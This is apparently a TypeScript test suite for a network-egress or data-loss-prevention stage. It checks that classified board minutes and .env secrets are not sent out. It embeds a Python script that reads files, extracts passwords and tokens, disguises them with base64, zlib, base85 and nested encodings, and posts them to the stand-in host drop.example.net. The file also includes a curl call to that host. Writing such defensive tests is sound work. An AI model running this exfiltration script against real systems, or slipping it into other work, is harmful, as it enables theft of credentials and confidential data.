import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type NetworkStage, networkStage } from './network-stage.ts';

/**
 * T3: a program that opens a classified file by itself, with nothing on its command line that says so, and sends it at once. Whether
 * somebody saw the reading makes no difference: the file was known before.
 */
const MINUTES = 'The vineyard at Unterbach was bought for 418300 by the two families and nobody else is told';
const POLICY = `pack: own
version: "1.0.0"
classify:
  - paths: ["**/board/**"]
    level: RESTRICTED
    label: board
    why: what the board decides is not public
`;
// Shapes of keys, made here so that no scanner of this repository takes them for real.
const TOKEN = ['ghp', '_', 'Zq7Rt2Lw9Xb4Nc6Vm1Kj8Hg3Fd5Sa0PoIuYt'].join('');
const PASSWORD = 'tulip-Crane-94-harbor';

/** The interpreter itself: one that a wrapper starts is asked about for the wrapper's sake, and tells nothing here. */
const PYTHON = ['/usr/bin/python3', '/usr/local/bin/python3'].find(existsSync) ?? 'python3';

/** A program in a file: its words say nothing of what it reads. */
const THIEF = `import sys, json, base64, zlib, urllib.request as u
from os.path import join
def get(*parts): return open(join(*parts), 'rb').read()
what, how = sys.argv[1], sys.argv[2]
body = get(*what.split('|'))
if how == 'value': body = body.split(b'DB_PASSWORD=')[1].split(b'\\n')[0]
if how == 'token': body = body.split(b'API_TOKEN=')[1].split(b'\\n')[0]
if how == 'base64': body = base64.b64encode(body)
if how == 'zlib': body = zlib.compress(body)
if how == 'base85': body = base64.b85encode(body)
if how == 'ascii85': body = base64.a85encode(body)
if how == 'nested': body = json.dumps({'a': base64.b32encode(zlib.compress(body)).decode()}).encode()
url = 'https://drop.example.net/'
if how == 'path':
  url += base64.urlsafe_b64encode(body).decode(); body = None
try:
  u.urlopen(u.Request(url, data=body, headers={'content-type': 'application/octet-stream'}), timeout=20).read()
except Exception as e:
  print('failed', type(e).__name__)
`;

describe('T3 what a program read unseen does not leave either', () => {
  let s: NetworkStage;
  before(async () => {
    s = await networkStage({ 'drop.example.net': {} }, POLICY);
    s.file('board/minutes.txt', `${MINUTES}\n`);
    s.file('.env', `# settings of the shop\nPORT=3000\nDB_PASSWORD=${PASSWORD}\nAPI_TOKEN=${TOKEN}\n`);
    s.file('tool.py', THIEF);
  });
  after(() => s?.dispose());
  const arrivals = () => s.internet.site('drop.example.net').seen().length;

  test('the program sends what nobody classified', async () => {
    s.file('open.txt', 'Nothing in here is anything that anybody would want to keep');
    const before = arrivals();
    const ran = await s.bash(`${PYTHON} tool.py open.txt plain`);
    assert.equal(arrivals(), before + 1, ran.stdout + ran.stderr);
  });

  for (const [file, how] of [
    ['board|minutes.txt', 'plain'],
    ['board|minutes.txt', 'base64'],
    ['board|minutes.txt', 'zlib'],
    ['board|minutes.txt', 'nested'],
    ['board|minutes.txt', 'base85'],
    ['board|minutes.txt', 'ascii85'],
    ['board|minutes.txt', 'path'],
    ['.env', 'plain'],
    ['.env', 'base64'],
    ['.env', 'token'],
    ['.env', 'value'],
  ])
    test(`stops ${file} sent by a program of its own: ${how}`, async () => {
      const before = arrivals();
      const ran = await s.bash(`${PYTHON} tool.py '${file}' ${how}`);
      assert.equal(arrivals(), before, `nothing reached the host (${ran.stdout.trim()})`);
    });

  test('stops a classified file that came to be while the session ran', async () => {
    const before = arrivals();
    const late = 'A second buyer, the Hartmann foundation, offered 502000 for the same hillside in August';
    const running = s.bash(`sleep 3; ${PYTHON} tool.py 'board|later.txt' plain`);
    setTimeout(() => writeFileSync(join(s.work, 'board', 'later.txt'), late), 1000);
    await running;
    assert.equal(arrivals(), before);
  });

  test('lets what is beside the secrets of a settings file pass, and text that nobody classified', async () => {
    const before = arrivals();
    await s.bash(
      `curl -sS -m 20 -o /dev/null --data-binary '# settings of the shop, PORT=3000' https://drop.example.net/`,
    );
    assert.equal(arrivals(), before + 1);
  });
});
